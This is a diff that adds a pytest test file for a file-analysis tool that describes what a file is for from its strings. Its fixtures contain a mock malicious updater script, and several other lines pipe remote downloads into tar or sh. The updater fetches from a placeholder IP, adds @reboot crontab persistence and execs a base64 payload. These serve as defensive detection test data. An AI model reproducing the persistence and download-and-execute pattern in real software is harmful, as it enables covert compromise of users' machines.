@@ -1,0 +1,139 @@
+"""What a file is for: the strongest evidence first, quoted, and with the lines that show it."""
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.conftest import SAMPLES
+from tests.reports.samples import FEATURES, METADATA
+from threatflux_training.catalogue.load import load_catalogue
+from threatflux_training.compose.content import Say
+from threatflux_training.compose.realise import Realiser
+from threatflux_training.evidence.blocks import BLOCKS
+from threatflux_training.evidence.view import View
+from threatflux_training.reports.load import load_files
+from threatflux_training.tasks import metadata, purpose, triage
+from threatflux_training.tasks.model import Draft, Request
+from threatflux_training.tasks.purpose_script import language
+from threatflux_training.tasks.triage_case import Case
+from threatflux_training.tokens import Counter
+
+UPDATER = [
+    "#!/usr/bin/env python3",
+    "import base64, os, socket, subprocess, sys, urllib.request",
+    'PAYLOAD = base64.b64decode("cHJpbnQoJ2hlbGxvJyk=")',
+    'def check(url="http://198.51.100.23/manifest.json"):',
+    "    with urllib.request.urlopen(url, timeout=5) as r: return r.read()",
+    'def persist(): subprocess.run(["crontab", "-"], input=b"@reboot /usr/bin/python3 %s\\n" % os.path.abspath(__file__).encode())',
+    'if __name__ == "__main__": exec(PAYLOAD); print(socket.gethostname(), len(check()))',
+]
+
+
+def _view(folder: Path, path: str, **features: Any) -> View:
+    found = METADATA | {"file_path": path, "file_name": path.rpartition("/")[2], "file_size": 4650}
+    found |= {"mime_type": features.pop("mime", "application/x-elf"), "permissions": "755"}
+    (folder / "r.json").write_text(
+        json.dumps({"file_path": path, **dict.fromkeys(FEATURES), "metadata": found, **features})
+    )
+    return View(load_files([str(folder)])[0][0], Counter("o200k_base"), BLOCKS)
+
+
+def _request(persona: str) -> Request:
+    reader = next(one for one in load_catalogue().personas if one.id == persona)
+    return Request(persona=reader, length="medium", room=2_000, variant=0, key="k")
+
+
+def _words(said: Say, register: str = "working") -> str:
+    return Realiser(load_catalogue(), register, "k").sentence(said).text  # type: ignore[arg-type]
+
+
+def _answers(draft: object) -> list[str]:
+    assert isinstance(draft, Draft)
+    return [one.phrase for one in draft.content if isinstance(one, Say) and one.role == "answer"]
+
+
+def test_a_script_is_told_by_what_its_lines_do(tmp_path: Path) -> None:
+    view = _view(tmp_path, "/home/analyst/samples/updater.py", strings=UPDATER, mime="text/x-shellscript")
+    clue = purpose.clues(view)[0]
+    said = _words(clue.said)
+    for part in ("`http://198.51.100.23/manifest.json`", "base64", "`@reboot /usr/bin/python3 %s`", "`exec(PAYLOAD)`"):
+        assert part in said
+    assert set(clue.lines) == {2, 3, 4, 5, 6}
+    for offered in (triage.offers(view, None), metadata.offers(view, None)):
+        draft = next(one for one in offered if one.task.endswith(".what")).build(_request("beginner"))
+        assert "purpose.script.acts" in _answers(draft)[:2]
+
+
+def test_no_credential_is_repeated(tmp_path: Path) -> None:
+    lines = [
+        "#!/bin/sh",
+        "curl -fsSL https://updates.example.com/x.tar.gz | tar -xz",
+        'API_TOKEN="tok_example_0123456789abcdef"',
+    ]
+    view = _view(tmp_path, "/home/a/deploy.sh", strings=lines, mime="text/x-shellscript")
+    said = _words(purpose.clues(view)[0].said)
+    assert "`API_TOKEN`" in said
+    assert "tok_example" not in said
+
+
+def test_remarks_do_nothing(tmp_path: Path) -> None:
+    lines = ["#!/bin/sh", "# curl -s https://updates.example.com/x | sh", "echo done"]
+    view = _view(tmp_path, "/home/a/quiet.sh", strings=lines, mime="text/x-shellscript")
+    assert not [one for one in purpose.clues(view) if one.said.phrase == "purpose.script.acts"]
+
+
+@pytest.mark.parametrize(
+    ("name", "first"),
+    [
+        ("printf.json", "purpose.told"),
+        ("logd.json.gz", "purpose.synopsis.place"),
+        ("deploy.sh.json.gz", "purpose.script.acts"),
+        ("hostile_strings.py.json", "purpose.hostile"),
+    ],
+)
+def test_own_words_come_first(name: str, first: str) -> None:
+    view = View(load_files([str(SAMPLES / name)])[0][0], Counter("o200k_base"), BLOCKS)
+    assert purpose.jobs(view)[0].said.phrase == first
+
+
+def test_a_login_module_is_known_by_its_functions(tmp_path: Path) -> None:
+    names = ["pam_sm_acct_mgmt", "strcmp", "/etc/security/time.conf", "account for %s expired"]
+    view = _view(tmp_path, "/lib/x86_64-linux-gnu/security/pam_time.so", strings=names)
+    said = [_words(one.said) for one in purpose.jobs(view)]
+    assert "`pam_sm_acct_mgmt`" in said[0]
+    assert "the check of accounts" in said[0]
+    assert "authentication" not in said[0]
+    assert "`/etc/security/time.conf`" in said[1]
+
+
+def test_where_nothing_tells_it_is_said_of_this_file(tmp_path: Path) -> None:
+    view = _view(
+        tmp_path, "/home/analyst/blob.bin", strings=["Ck4x", "6<XZZ", "r4I?L"], mime="application/octet-stream"
+    )
+    assert purpose.clues(view) == []
+    none = purpose.unknown(view)
+    assert none is not None
+    assert "`Ck4x`" in _words(none.said)
+
+
+@pytest.mark.parametrize(
+    ("first", "expected"),
+    [("#!/usr/bin/env python3", "Python"), ("#!/usr/bin/perl -w", "Perl"), ("#!/bin/sh -", "shell"), ("#!/bin/bash", "Bash"), ("#!/usr/bin/awk -f", "")],
+)  # fmt: skip
+def test_the_language_is_that_of_the_interpreter(first: str, expected: str) -> None:
+    assert language(first) == expected
+
+
+def test_a_program_under_another_name_is_told_by_its_usage(tmp_path: Path) -> None:
+    lines = ["Usage: start-stop-daemon [<option>...] <command>", "Commands:"]
+    for path, phrase in (("/opt/a/one", "purpose.synopsis.other"), ("/sbin/start-stop-daemon", "purpose.synopsis")):
+        clue = purpose.jobs(_view(tmp_path, path, strings=lines))[0]
+        assert clue.said.phrase == phrase
+        assert "`start-stop-daemon [<option>...] <command>`" in _words(clue.said)
+
+
+def test_what_makes_a_script_a_case_is_graver_than_a_download(tmp_path: Path) -> None:
+    view = _view(tmp_path, "/home/analyst/samples/updater.py", strings=UPDATER, mime="text/x-shellscript")
+    assert Case(view).marks[0] == 5
